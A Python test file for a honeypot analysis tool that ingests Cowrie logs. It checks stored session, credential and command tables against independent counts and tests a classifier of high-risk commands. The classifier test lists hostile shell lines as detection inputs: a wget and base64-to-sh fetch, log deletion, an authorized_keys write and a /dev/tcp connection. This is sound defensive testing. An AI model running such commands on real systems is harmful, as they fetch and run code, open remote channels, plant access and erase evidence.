"""The tables that are kept of a honeypot, against counts made without any of our code."""

from __future__ import annotations

import json
import shutil
import sqlite3
from collections import Counter, defaultdict
from collections.abc import Sequence
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from evidentia.app import Config, Workspace
from evidentia.ingest.values import IngestOptions, Watch
from evidentia.log.values import LogSource
from evidentia.packs.cowrie import PACK
from evidentia.packs.cowrie.commands import (
    COMMAND_CHARACTERS_MAX,
    is_high_risk,
    normalised_command,
)
from evidentia.store.opening import Store

DAYS = [f"cowrie.json.2018-05-{day:02}" for day in range(6, 12)]
LOGINS = ("cowrie.login.failed", "cowrie.login.success")


def workspace_of(folder: Path) -> Workspace:
    """A workspace with the cowrie pack alone."""
    return Workspace(config=Config(store=Store(path=folder / "s.db")), packs={"cowrie": PACK})


def ingest(folder: Path, names: Sequence[str], batch_events: int = 50_000) -> None:
    """Read logs of a folder."""
    sources = tuple(LogSource(pattern=str(folder / name), pack="cowrie") for name in names)
    options = IngestOptions(batch_events=batch_events, jobs=1)
    workspace_of(folder).ingest(sources, Watch(clock=lambda: 0.0), options)


def asked(folder: Path, sql: str) -> list[tuple[Any, ...]]:
    """Rows of the store."""
    with closing(sqlite3.connect(folder / "s.db")) as connection:
        return connection.execute(sql).fetchall()


def digests(folder: Path) -> dict[str, str | None]:
    """The digest of each summary, all of which must be well."""
    checks = workspace_of(folder).check_projections()
    assert all(each.is_well for each in checks)
    return {each.name: each.digest for each in checks}


@pytest.fixture
def days(tmp_path: Path, shared_data: Path) -> Path:
    """A folder with the real days."""
    for name in DAYS:
        shutil.copy(shared_data / "cowrie" / name, tmp_path / name)
    return tmp_path


def events_of(folder: Path) -> list[dict[str, Any]]:
    """Every event of the days: a line that is no JSON object is none."""
    found = []
    for name in DAYS:
        for line in (folder / name).read_bytes().splitlines():
            try:
                found.append(json.loads(line))
            except ValueError:
                continue
    return found


def test_real_sessions_are_those_that_the_lines_give(days: Path) -> None:
    """Times, sources and every counter of every session, by plain Python over the lines."""
    groups: dict[tuple[str, str], list[dict[str, Any]]] = defaultdict(list)
    for event in events_of(days):
        groups[event["session"], event["sensor"]].append(event)
    wanted = {}
    for key, events in groups.items():
        kinds = Counter(event["eventid"] for event in events)
        attempts = sum(kinds[kind] for kind in LOGINS)
        commands = kinds["cowrie.command.input"], kinds["cowrie.command.failed"]
        downloads = kinds["cowrie.session.file_download"]
        sources = {event["src_ip"] for event in events}
        counts = (len(events), *commands, attempts, kinds["cowrie.login.success"], downloads)
        wanted[key] = (sources, *counts)

    ingest(days, DAYS)

    rows = asked(
        days,
        "SELECT session_id, sensor, src_ip, event_count, command_count, failed_commands,"
        " login_attempts, login_successes, file_downloads FROM sessions",
    )
    assert {row[:2] for row in rows} == wanted.keys()
    for row in rows:
        sources, *counts = wanted[row[:2]]
        assert list(row[3:]) == counts
        assert row[2] in sources


def test_real_totals_reconcile(days: Path) -> None:
    """Events, sessions, days, credentials and commands add up to what the lines hold."""
    events = events_of(days)
    kinds = Counter(event["eventid"] for event in events)
    by_day = Counter((event["timestamp"][:10], event["eventid"]) for event in events)
    pairs = Counter(
        (event["username"], event.get("password") or "")
        for event in events
        if event["eventid"] in LOGINS
    )
    commands = Counter(
        " ".join(event["input"].split())
        for event in events
        if event["eventid"] == "cowrie.command.input" and event["input"].strip()
    )

    ingest(days, DAYS)

    assert asked(days, "SELECT sum(event_count) FROM sessions") == [(len(events),)]
    assert asked(days, "SELECT sum(events) FROM daily") == [(len(events),)]
    found = asked(
        days,
        "SELECT date(day / 1000000, 'unixepoch'), kind, sum(events) FROM daily GROUP BY day, kind",
    )
    assert {row[:2]: row[2] for row in found} == dict(by_day)
    found = asked(days, "SELECT username, password, attempts FROM credentials")
    assert {row[:2]: row[2] for row in found} == dict(pairs)
    assert asked(days, "SELECT sum(successes) FROM credentials") == [(kinds[LOGINS[1]],)]
    found = asked(days, "SELECT command, occurrences FROM command_stats WHERE occurrences > 0")
    assert dict(found) == {key[:COMMAND_CHARACTERS_MAX]: n for key, n in commands.items()}


def test_real_days_give_equal_digests_however_they_are_read(days: Path, tmp_path: Path) -> None:
    """At once, in small batches day by day backwards, twice, and made anew."""
    ingest(days, DAYS)
    at_once = digests(days)
    other = tmp_path / "other"
    other.mkdir()
    for name in DAYS:
        shutil.copy(days / name, other / name)

    for name in reversed(DAYS):
        ingest(other, [name], batch_events=173)
    ingest(other, DAYS)

    assert digests(other) == at_once
    workspace_of(other).rebuild_projections()
    assert digests(other) == at_once


@pytest.mark.parametrize(
    ("command", "risk"),
    [
        ("cd /tmp; wget http://203.0.113.5/x.sh", 1),
        ("chmod 777 a", 1),
        ("chmod +x ./a", 1),
        ("echo aGk= | base64 -d | sh", 1),
        ("rm -rf /var/log", 1),
        ("echo 1 > ~/.ssh/authorized_keys", 1),
        ("exec 3<>/dev/tcp/203.0.113.5/80", 1),
        ("history -c", 1),
        ("CRONTAB -l", 1),
        ("uname -a", 0),
        ("cat /proc/cpuinfo | grep name | wc -l", 0),
        ("ls -la /tmp", 0),
        ("echo charm -r", 0),
        ("", 0),
    ],
)
def test_the_rules_of_high_risk(command: str, risk: int) -> None:
    """What fetches, runs, hides, stays or clears is of high risk; looking around is not."""
    assert is_high_risk(command) == risk


@pytest.mark.parametrize("word", ["chmod ", "base64 ", "rm ", "kill ", "history ", "rm -"])
def test_a_long_hostile_command_is_judged_in_no_time(word: str) -> None:
    """A line of a million words is a line that somebody will send."""
    assert is_high_risk(word * 100_000) in {0, 1}


def test_a_command_is_normalised_and_bounded() -> None:
    """Blanks become one; letters and addresses stay; other types are left to be flagged."""
    assert normalised_command("  Cat\t\n /A  203.0.113.5 ") == "Cat /A 203.0.113.5"
    assert normalised_command("x" * 9_999) == "x" * COMMAND_CHARACTERS_MAX
    assert normalised_command(7) == 7
    assert is_high_risk(["wget"]) is None
